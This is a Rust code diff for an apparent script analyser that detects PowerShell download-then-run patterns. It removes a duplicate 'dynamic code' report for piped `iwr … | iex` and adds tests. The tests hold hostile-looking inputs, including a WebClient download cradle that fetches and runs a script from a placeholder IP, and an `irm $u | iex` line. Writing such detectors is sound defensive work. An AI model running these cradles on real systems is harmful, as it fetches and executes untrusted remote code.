@@ -447,6 +447,8 @@ impl<'s, 'a> Cx<'s, 'a> {
                     .unwrap_or_default()
             })
             .collect();
+        // The segment whose `iex` a download-then-run step already covers.
+        let mut reported_for: Option<usize> = None;
         for (i, (off, seg)) in segs.iter().enumerate() {
             let start = base + off;
             let end = start + seg.len();
@@ -471,6 +473,7 @@ impl<'s, 'a> Cx<'s, 'a> {
                 downloaded = Some(url.clone());
                 if piped_to_iex {
                     self.download_exec(&url, start, end, Vec::new());
+                    reported_for = Some(i + 1);
                 }
             }
             // `iex (iwr ...)` / `iex $code` / `[scriptblock]::Create(...)`.
@@ -485,12 +488,17 @@ impl<'s, 'a> Cx<'s, 'a> {
                 if i > 0 {
                     inputs.push(self.src.pos_bind("pipe", base + segs[i - 1].0));
                 }
-                let ev = ExecOp::new(ExecForm::Code, crate::text::snippet(rest, 200))
-                    .object("Invoke-Expression of code")
-                    .instrument("Invoke-Expression")
-                    .inputs(inputs.clone())
-                    .lower();
-                self.emit(ev, start, end, &[]);
+                // `iwr … | iex` was reported with the download (a
+                // download-then-run step); the code it runs is that download,
+                // not a string built here, so no second "dynamic code" step.
+                if reported_for != Some(i) {
+                    let ev = ExecOp::new(ExecForm::Code, crate::text::snippet(rest, 200))
+                        .object("Invoke-Expression of code")
+                        .instrument("Invoke-Expression")
+                        .inputs(inputs.clone())
+                        .lower();
+                    self.emit(ev, start, end, &[]);
+                }
                 // A code string known by folding (`iex $c` after `$c = '…'`,
                 // `iex ('a' + $b)`) is analysed as PowerShell, as the
                 // other languages' eval does.
@@ -508,10 +516,8 @@ impl<'s, 'a> Cx<'s, 'a> {
                     None
                 };
                 let var_url = inputs.iter().find_map(|b| self.net_vars.get(b)).cloned();
-                // `iwr ... | iex` was reported with the download.
-                let piped = i > 0 && DOWNLOADERS.contains(&seg_names[i - 1].as_str());
                 if let Some(u) = wrapped_url.or(var_url)
-                    && !piped
+                    && reported_for != Some(i)
                 {
                     self.download_exec(&u, start, end, inputs);
                 }
@@ -1472,6 +1478,15 @@ mod tests {
             1,
             "{ev:#?}"
         );
+        // The piped download is the code run: no second, empty
+        // "dynamic code" step beside the download-then-run one.
+        assert!(find(&ev, Op::DynamicCode).is_none(), "{ev:#?}");
+        // An address read from a file: still one download-then-run step.
+        let ev = run("$u = Get-Content ./next.txt\nirm $u | iex");
+        assert!(find(&ev, Op::DownloadExec).is_some(), "{ev:#?}");
+        // Code that is not a download keeps its dynamic-code step.
+        let ev = run("Get-Content ./next.ps1 | iex");
+        assert!(find(&ev, Op::DynamicCode).is_some(), "{ev:#?}");
         let ev = run("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.4/p.ps1')");
         let d = find(&ev, Op::DownloadExec).expect("webclient cradle");
         assert!(d.has(Tag::RawIp));
